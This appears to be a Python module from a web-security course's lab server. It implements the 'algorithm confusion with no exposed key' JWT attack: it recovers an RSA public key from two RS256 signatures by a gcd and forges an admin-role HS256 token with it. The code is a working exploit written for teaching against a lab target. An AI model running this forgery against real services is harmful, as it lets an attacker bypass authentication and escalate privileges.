"""Algorithm confusion with no exposed key: the RSA public key, recovered from two RS256 tokens.

PortSwigger's lab "JWT authentication bypass via algorithm confusion with no exposed key": the
server publishes no JWKS, but every RS256 token it issues is a signature ``s`` with
``s^e = m (mod n)``, where ``m`` is the PKCS#1 v1.5 encoding of the token's SHA-256 digest and
``e`` is almost always 65537. So ``n`` divides ``s^e - m`` for every token, and the gcd of two
such numbers is ``n`` times a small cofactor. Strip the cofactor, build the PEMs a server might
hold (as PortSwigger's ``sig2n`` tool does), and sign HS256 with them: the algorithm-confusion
forgery of chapter 9, with a key the attacker computed instead of downloaded.

It is heavy: for RSA-2048 each ``s^e`` has about 134 million bits, and their gcd takes about
30 s with gmpy2 (GMP) on one core; Python's own integers do not finish in 10 minutes. So:

    >>> recovery = recover_modulus(token1, token2)          # blocks: ~35 s for RSA-2048
    >>> runner = BackgroundRecovery.start(token1, token2)   # the same in a subprocess
    >>> runner.status()                                     # 'gcd (step 4 of 6), 12 s'
    >>> recovery = runner.wait()                            # prints progress while it waits

``python -m labserver.experiments.modulus_recovery`` reads two tokens on stdin and prints the
steps and the PEM; :class:`BackgroundRecovery` runs it with ``--protocol`` (JSON lines).
"""

from __future__ import annotations

import hashlib
import json
import math
import os
import subprocess
import sys
import threading
import time
import weakref
from collections.abc import Callable
from dataclasses import dataclass, field

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.utils import base64url_decode

from ..forge import hs256_with_key_bytes

try:
    import gmpy2
except ImportError:  # the course pins it; without it only small keys are in reach
    gmpy2 = None

E = 65537

#: DER of DigestInfo{sha256, NULL} before the 32-byte digest: RFC 8017 section 9.2, note 1.
SHA256_DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")

#: The steps of a recovery, in order (what progress callbacks and status lines name).
STEPS = ("encode", "power 1", "power 2", "gcd", "cofactors", "check")

#: Without gmpy2, the largest s^e (in bits) that Python's integers handle in seconds.
PURE_PYTHON_LIMIT_BITS = 1 << 20

NO_GMPY2 = (
    "gmpy2 is not installed, and Python's own integers would take more than 10 minutes for "
    "this key: run `.venv/bin/python -m pip install -r requirements.txt` (it pins gmpy2)"
)

#: The longest signature the attack takes: RSA-8192. s^e grows as e times the key's size (about
#: 67 MB per token at 8192 bits), so a longer "signature" would only exhaust memory.
MAX_SIGNATURE_BYTES = 1024

#: Small primes below this are divided out of the gcd: n itself has no factor this small.
COFACTOR_BOUND = 1 << 16

PEM_FORMATS = {
    "X.509 SubjectPublicKeyInfo": serialization.PublicFormat.SubjectPublicKeyInfo,
    "PKCS#1": serialization.PublicFormat.PKCS1,
}


class RecoveryError(ValueError):
    """Why these tokens cannot give a modulus, in one line for a learner."""


def emsa_pkcs1_v15_sha256(signing_input: bytes | str, bits: int) -> int:
    """EMSA-PKCS1-v1_5 (RFC 8017 section 9.2) of SHA-256(``signing_input``) for a ``bits``-bit
    modulus, as the integer ``m`` that RSA raises to ``d`` when it signs RS256.

    Hand-written on purpose, against the course's rule: the attack needs ``m`` itself, and no
    library hands it out (``cryptography`` only signs and verifies). It is the lesson: the
    padding is fixed and public, so ``s^e - m`` is a known multiple of ``n``. The tests check it
    against ``cryptography``'s real signatures: ``pow(s, e, n) == m``.
    """
    if isinstance(signing_input, str):
        signing_input = signing_input.encode()
    t = SHA256_DIGEST_INFO + hashlib.sha256(signing_input).digest()
    em_len = (bits + 7) // 8
    if em_len < len(t) + 11:
        raise RecoveryError(f"a {bits}-bit modulus is too short for PKCS#1 v1.5 with SHA-256")
    padding = b"\xff" * (em_len - len(t) - 3)
    return int.from_bytes(b"\x00\x01" + padding + b"\x00" + t, "big")


@dataclass(frozen=True)
class SignedToken:
    """What the attack needs of one RS256 token: its signing input, signature and header."""

    signing_input: bytes
    signature: int
    length: int  # bytes of the signature: the modulus's length k (RFC 8017 section 8.2.2)
    header: dict

    @property
    def kid(self) -> str | None:
        return self.header.get("kid")

    def m(self) -> int:
        """The encoded message ``m`` that this signature is ``m^d mod n`` of."""
        return emsa_pkcs1_v15_sha256(self.signing_input, 8 * self.length)


def parse_rs256(token: str, which: str = "the token") -> SignedToken:
    """The parts of an RS256 compact JWS, or :class:`RecoveryError` saying what is wrong."""
    if not isinstance(token, str):
        raise RecoveryError(f"{which} is a {type(token).__name__}, not a compact JWS string")
    parts = token.strip().split(".")
    if len(parts) != 3 or not all(parts):
        raise RecoveryError(
            f"{which} is not a signed compact JWS: header.payload.signature, with 3 non-empty "
            f"parts (it has {len(parts)} parts)"
        )
    try:
        header = json.loads(base64url_decode(parts[0].encode()))
        signature = base64url_decode(parts[2].encode())
    except (ValueError, TypeError, UnicodeError, RecursionError):  # RecursionError: deep JSON
        raise RecoveryError(f"{which}'s header or signature is not base64url JSON") from None
    if not isinstance(header, dict):
        raise RecoveryError(f"{which}'s header is not a JSON object")
    alg = header.get("alg")
    if alg != "RS256":
        why = {
            "PS256": "RSA-PSS pads with a random salt, so m cannot be computed from the token",
            "HS256": "an HMAC has no public key to recover",
        }.get(
            alg if isinstance(alg, str) else None,
            "only RSA PKCS#1 v1.5 signatures have an m the attacker can compute",
        )
        raise RecoveryError(f"{which} is signed {repr(alg)[:40]}, not RS256: {why}")
    if len(signature) < 64:
        raise RecoveryError(
            f"{which}'s signature has {len(signature)} bytes: no RSA key is this small"
        )
    if len(signature) > MAX_SIGNATURE_BYTES:
        raise RecoveryError(
            f"{which}'s signature has {len(signature)} bytes: the attack takes RSA keys of at "
            f"most {8 * MAX_SIGNATURE_BYTES} bits ({MAX_SIGNATURE_BYTES} bytes)"
        )
    return SignedToken(
        f"{parts[0]}.{parts[1]}".encode(), int.from_bytes(signature, "big"), len(signature), header
    )


def candidate_pems(n: int, e: int = E) -> dict[str, bytes]:
    """The public key ``(n, e)`` as the PEMs a server might HMAC with, one per format."""
    key = rsa.RSAPublicNumbers(e, n).public_key()
    return {
        name: key.public_bytes(serialization.Encoding.PEM, fmt) for name, fmt in PEM_FORMATS.items()
    }


def divides_both(n: int, tokens: list[SignedToken], e: int = E) -> bool:
    """True when ``n`` divides ``s^e - m`` for each token, i.e. ``pow(s, e, n) == m``: cheap."""
    return all(t.signature < n and pow(t.signature, e, n) == t.m() for t in tokens)


def strip_cofactors(g: int, bound: int = COFACTOR_BOUND) -> tuple[int, int]:
    """``g`` with every prime factor below ``bound`` divided out, and the product removed."""
    cofactor, p = 1, 2
    while p < bound and g > 1:
        while g % p == 0:
            g //= p
            cofactor *= p
        p += 1 if p == 2 else 2  # odd numbers only: a composite never divides what is left
    return g, cofactor


@dataclass(frozen=True)
class Recovery:
    """A recovered RSA public key: ``n``, ``e``, the candidate PEMs and each step's seconds."""

    n: int
    e: int
    bits: int
    cofactor: int  # what the gcd had besides n (1 when the gcd was n itself)
    timings: dict[str, float] = field(default_factory=dict)

    @property
    def pems(self) -> dict[str, bytes]:
        return candidate_pems(self.n, self.e)

    def as_json(self) -> dict:
        return {
            "n": format(self.n, "x"),
            "e": self.e,
            "bits": self.bits,
            "cofactor": format(self.cofactor, "x"),
            "timings": self.timings,
        }

    @classmethod
    def from_json(cls, data: dict) -> Recovery:
        return cls(
            int(data["n"], 16), data["e"], data["bits"], int(data["cofactor"], 16), data["timings"]
        )


def _integers(bits: int):
    """(the integer type, its gcd) fast enough for numbers of ``bits`` bits, or why none is."""
    if gmpy2 is not None:
        return gmpy2.mpz, gmpy2.gcd
    if bits > PURE_PYTHON_LIMIT_BITS:
        raise RecoveryError(NO_GMPY2)
    return int, math.gcd


def _check_exponent(e) -> None:
    if not isinstance(e, int) or isinstance(e, bool) or e < 3 or e % 2 == 0:
        raise RecoveryError(f"e must be an odd integer of at least 3 (usually 65537), not {e!r}")


def parse_pair(token1: str, token2: str) -> list[SignedToken]:
    """Both tokens parsed, and refused up front if they cannot share one key."""
    tokens = [parse_rs256(token1, "token 1"), parse_rs256(token2, "token 2")]
    one, two = tokens
    if one.length != two.length:
        raise RecoveryError(
            f"the signatures have {8 * one.length} and {8 * two.length} bits: two different "
            "RSA keys signed these tokens"
        )
    if one.kid and two.kid and one.kid != two.kid:
        raise RecoveryError(
            f"the tokens name two keys, {one.kid!r} and {two.kid!r}: take two tokens of one key"
        )
    if one.signing_input == two.signing_input:
        raise RecoveryError("the two tokens sign the same message: take two different tokens")
    return tokens


def recover_modulus(
    token1: str,
    token2: str,
    e: int = E,
    progress: Callable[[str], None] | None = None,
) -> Recovery:
    """The RSA modulus that signed both RS256 tokens: ``gcd(s1^e - m1, s2^e - m2)``, with its
    small cofactors stripped, checked against both signatures. ``progress(step)`` is called as
    each of :data:`STEPS` starts. Raises :class:`RecoveryError` with the reason otherwise."""
    tokens = parse_pair(token1, token2)
    _check_exponent(e)
    k = tokens[0].length
    mpz, gcd = _integers(e * 8 * k)
    marks: list[tuple[str, float]] = []  # (step, when it started)

    def step(name: str) -> None:
        marks.append((name, time.perf_counter()))
        if progress is not None and name in STEPS:
            progress(name)

    step("encode")
    ms = [t.m() for t in tokens]
    multiples = []
    for i, (t, m) in enumerate(zip(tokens, ms, strict=True), 1):
        step(f"power {i}")
        multiples.append(mpz(t.signature) ** e - m)
    step("gcd")
    g = int(gcd(*multiples))
    del multiples
    step("cofactors")
    n, cofactor = strip_cofactors(g)
    step("check")
    if n.bit_length() > 8 * k:
        raise RecoveryError(
            f"the gcd keeps a cofactor of {n.bit_length() - 8 * k} bits with no small factors "
            "(rare): try again with another pair of tokens"
        )
    if n.bit_length() <= 8 * (k - 1) or not divides_both(n, tokens, e):
        raise RecoveryError(
            f"the gcd has {g.bit_length()} bits, not {8 * k}: the tokens were not signed by one "
            f"RSA key with e = {e}"
        )
    step("done")
    timings = {name: end - start for (name, start), (_, end) in zip(marks, marks[1:], strict=False)}
    timings["total"] = marks[-1][1] - marks[0][1]
    return Recovery(n, e, n.bit_length(), cofactor, timings)


def forge_with_recovered_key(
    recovery: Recovery, claims: dict, kid: str | None, pem: str = "X.509 SubjectPublicKeyInfo"
) -> str:
    """An HS256 token over ``claims`` keyed with one of the recovery's candidate PEMs (by
    default the SubjectPublicKeyInfo one, which the lab's confused verifier holds)."""
    header = {"typ": "at+jwt", **({"kid": kid} if kid else {})}
    return hs256_with_key_bytes(header, claims, recovery.pems[pem])


def published_modulus(attacker, kid: str) -> tuple[int, int]:
    """``(n, e)`` of the lab's published RSA key ``kid``, from its JWKS."""
    jwks = attacker.client().get("/.well-known/jwks.json").json()
    jwk = next(k for k in jwks["keys"] if k.get("kid") == kid)
    numbers = [int.from_bytes(base64url_decode(jwk[x].encode()), "big") for x in ("n", "e")]
    return numbers[0], numbers[1]


FAST_MODE_NOTE = (
    "no exposed key, fast mode: n taken from the JWKS and checked against both tokens' "
    "signatures (pow(s, e, n) == m), the one n the gcd would give; the gcd itself (about 30 s) "
    "was skipped: pass a finished recovery to use a recovered n"
)


def forge_no_exposed_key(
    attacker, recovery: Recovery | None = None, say: Callable[[str], None] | None = print
) -> tuple[str, str]:
    """The battery's forgery (``JwtAttack.forge``): HS256 with the recovered public key as the
    secret, for ``/vulnerable/alg-confusion/me`` and ``/api/me`` (the same token for both).

    With a finished ``recovery`` its ``n`` is used. Without one (fast mode, the battery's
    default) the JWKS modulus stands in for the gcd, after checking that it divides ``s^e - m``
    for two fresh RS256 tokens of the lab; ``say`` is told so (``None``: silent).
    """
    token1, token2 = (attacker.token(alg="RS256") for _ in range(2))
    tokens = parse_pair(token1, token2)
    kid = tokens[0].kid
    if recovery is None:
        n, e = published_modulus(attacker, kid)
        if not divides_both(n, tokens, e):
            raise RecoveryError(f"the JWKS modulus of {kid!r} did not sign these tokens")
        recovery = Recovery(n, e, n.bit_length(), 1)
        if say is not None:
            say(FAST_MODE_NOTE)
    elif not divides_both(recovery.n, tokens, recovery.e):
        raise RecoveryError("the recovery's n did not sign the lab's current RS256 tokens")
    forged = forge_with_recovered_key(recovery, attacker.claims(token1, roles=["admin"]), kid)
    return forged, forged


# --- in the background: a subprocess, so a notebook kernel and the lab's threads keep running --


def _kill(process: subprocess.Popen) -> None:
    if process.poll() is None:
        process.kill()
        process.wait()


class BackgroundRecovery:
    """:func:`recover_modulus` in a subprocess (``python -m
    labserver.experiments.modulus_recovery --protocol``): tokens on its stdin, one JSON line
    per step on its stdout.

    The subprocess dies with its parent: on Linux the kernel kills it when the parent does
    (``PR_SET_PDEATHSIG``); elsewhere it exits when its stdin closes, between steps. It is also
    killed when this object is collected, at interpreter exit, and by :meth:`stop`.
    """

    def __init__(self) -> None:
        self.step = "not started"
        self.error = ""
        self._recovery: Recovery | None = None
        self._process: subprocess.Popen | None = None
        self._started = self._step_at = time.monotonic()
        self._ended: float | None = None
        self._spawned = threading.Event()
        self._thread: threading.Thread | None = None

    @classmethod
    def start(cls, token1: str, token2: str, e: int = E) -> BackgroundRecovery:
        """Start recovering the modulus of two RS256 tokens; returns at once. Tokens that
        cannot work fail here, without a subprocess: :meth:`status` says why."""
        runner = cls()
        try:
            parse_pair(token1, token2)
            _check_exponent(e)
            _integers(e * 8 * parse_rs256(token1).length)
        except RecoveryError as exc:
            runner._fail(str(exc))
            return runner
        request = json.dumps({"tokens": [token1, token2], "e": e})
        # The thread that starts the subprocess outlives it: PR_SET_PDEATHSIG fires when the
        # *thread* that forked the child ends, so it must not be a short-lived caller's thread.
        runner._thread = threading.Thread(
            target=runner._run, args=(request,), name="modulus-recovery", daemon=True
        )
        runner._thread.start()
        runner._spawned.wait()
        return runner

    def _run(self, request: str) -> None:
        command = [sys.executable, "-m", __name__, "--protocol", "--parent", str(os.getpid())]
        try:
            self._process = process = subprocess.Popen(
                command,
                stdin=subprocess.PIPE,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                env={**os.environ, "PYTHONUNBUFFERED": "1"},
            )
        except OSError as exc:
            self._fail(f"could not start {sys.executable}: {exc}")
            self._spawned.set()
            return
        weakref.finalize(self, _kill, process)
        self.step = "starting"
        self._spawned.set()
        process.stdin.write(request + "\n")
        process.stdin.flush()  # stdin stays open: the child exits when it closes
        for line in process.stdout:
            self._read(line)
        process.wait()
        if self._ended is None:
            self._fail(self._died(process))

    def _died(self, process: subprocess.Popen) -> str:
        if process.returncode < 0:
            return f"stopped (the subprocess got signal {-process.returncode})"
        last = (process.stderr.read().strip().splitlines() or ["no output"])[-1]
        return f"the subprocess ended with code {process.returncode}: {last}"

    def _read(self, line: str) -> None:
        try:
            message = json.loads(line)
        except ValueError:
            return
        if "step" in message:
            self.step, self._step_at = message["step"], time.monotonic()
        elif "recovery" in message:
            self._recovery = Recovery.from_json(message["recovery"])
            self.step, self._ended = "done", time.monotonic()
        elif "error" in message:
            self._fail(message["error"])

    def _fail(self, why: str) -> None:
        if self._ended is None:
            self.step, self.error, self._ended = "failed", why, time.monotonic()

    @property
    def running(self) -> bool:
        return self._ended is None and self.step != "not started"

    def status(self) -> str:
        """One line: the step it is at (or how it ended) and the seconds so far."""
        now = self._ended or time.monotonic()
        elapsed = f"{now - self._started:.0f} s"
        if self.step == "done":
            return f"done: a {self._recovery.bits}-bit n recovered in {elapsed}"
        if self.step == "failed":
            return f"failed after {elapsed}: {self.error}"
        if self.step in STEPS:
            where = f"{self.step} (step {STEPS.index(self.step) + 1} of {len(STEPS)})"
            return f"{where}, {now - self._step_at:.0f} s in it, {elapsed} in all"
        return f"{self.step}, {elapsed}"

    def wait(
        self, timeout: float | None = None, every: float = 5.0, say: Callable[[str], None] = print
    ) -> Recovery | None:
        """Wait for the end (or ``timeout`` seconds), telling ``say`` each new step and the
        status every ``every`` seconds; the recovery, or None (``status()`` says why)."""
        deadline = None if timeout is None else time.monotonic() + timeout
        told, last_told = None, time.monotonic()
        while self.running:
            if self.step != told or time.monotonic() - last_told >= every:
                say(self.status())
                told, last_told = self.step, time.monotonic()
            if deadline is not None and time.monotonic() >= deadline:
                return None
            left = math.inf if deadline is None else deadline - time.monotonic()
            self._thread.join(max(0.0, min(0.2, left)))
        say(self.status())
        return self._recovery

    def result(self) -> Recovery:
        """The recovery; :class:`RecoveryError` if it failed or has not finished."""
        if self._recovery is None:
            raise RecoveryError(self.error or f"not finished: {self.status()}")
        return self._recovery

    def stop(self) -> None:
        """Kill the subprocess (if it still runs) and wait for it."""
        if self._process is not None:
            _kill(self._process)
        if self._thread is not None:
            self._thread.join()
        self._fail("stopped")

    @property
    def pid(self) -> int | None:
        """The subprocess's process ID (None without one)."""
        return self._process.pid if self._process is not None else None


# --- the subprocess ----------------------------------------------------------------------------


def _die_with_parent(parent: int) -> None:
    """Be killed when ``parent`` dies: PR_SET_PDEATHSIG on Linux; elsewhere (and as well) a
    thread that exits when stdin closes. The GIL-holding gcd delays only the second."""
    from ..lifetime import die_with_parent

    die_with_parent(parent, exit_code=3)

    def watch() -> None:
        sys.stdin.read()
        os._exit(3)

    threading.Thread(target=watch, daemon=True).start()


def main(argv: list[str] | None = None) -> int:
    """Read two tokens on stdin (JSON ``{"tokens": [...], "e": ...}``, or two tokens separated
    by whitespace); print each step and the recovered key. ``--protocol``: JSON lines only."""
    argv = sys.argv[1:] if argv is None else argv
    protocol = "--protocol" in argv
    if protocol:
        line = sys.stdin.readline()
        if "--parent" in argv:
            _die_with_parent(int(argv[argv.index("--parent") + 1]))
    else:
        line = sys.stdin.read()

    def emit(message: dict) -> None:
        if protocol:
            print(json.dumps(message), flush=True)
        elif "step" in message:
            print(f"{message['step']} ...", flush=True)

    try:
        try:
            request = json.loads(line)
            tokens, e = request["tokens"], int(request.get("e", E))
        except (ValueError, TypeError, KeyError, AttributeError):
            tokens, e = line.split(), E
        if len(tokens) != 2:
            raise RecoveryError(f"give exactly two RS256 tokens on stdin, not {len(tokens)}")
        recovery = recover_modulus(*tokens, e=e, progress=lambda s: emit({"step": s}))
    except RecoveryError as exc:
        emit({"error": str(exc)})
        if not protocol:
            print(f"no modulus: {exc}", file=sys.stderr)
        return 2
    emit({"recovery": recovery.as_json()})
    if not protocol:
        print(f"n ({recovery.bits} bits, e = {recovery.e}) = 0x{recovery.n:x}")
        print("seconds: " + ", ".join(f"{k} {v:.2f}" for k, v in recovery.timings.items()))
        for name, pem in recovery.pems.items():
            print(f"{name}:\n{pem.decode()}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
